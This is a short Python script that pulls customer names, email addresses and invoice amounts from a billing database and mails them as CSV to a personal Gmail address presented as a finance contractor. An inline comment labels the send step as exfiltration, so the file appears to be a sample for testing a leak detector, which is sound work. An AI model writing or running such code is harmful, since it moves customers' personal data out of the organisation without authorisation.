"""Email the monthly revenue breakdown (with customer detail) to the finance contractor."""
import os
import smtplib
from email.message import EmailMessage

import psycopg2

RECIPIENT = "finance.contractor@gmail.com"


def fetch_rows():
    conn = psycopg2.connect(os.environ["DATABASE_URL"])
    with conn, conn.cursor() as cur:
        cur.execute("""
            SELECT c.name, c.email, i.amount, i.issued_at
            FROM billing.invoices i JOIN billing.customers c ON c.id = i.customer_id
            WHERE i.issued_at >= date_trunc('month', now()) - interval '1 month'
        """)
        return cur.fetchall()


def build_message(rows):
    msg = EmailMessage()
    msg["Subject"] = "Monthly revenue detail"
    msg["From"] = "reports@acme.example"
    msg["To"] = RECIPIENT
    lines = ["name,email,amount,issued_at"] + [",".join(map(str, r)) for r in rows]
    msg.set_content("\n".join(lines))
    return msg


def main():
    msg = build_message(fetch_rows())
    with smtplib.SMTP_SSL("smtp.gmail.com", 465) as smtp:
        smtp.login(os.environ["SMTP_USER"], os.environ["SMTP_PASSWORD"])
        # expect: exfiltration
        smtp.send_message(msg)


if __name__ == "__main__":
    main()
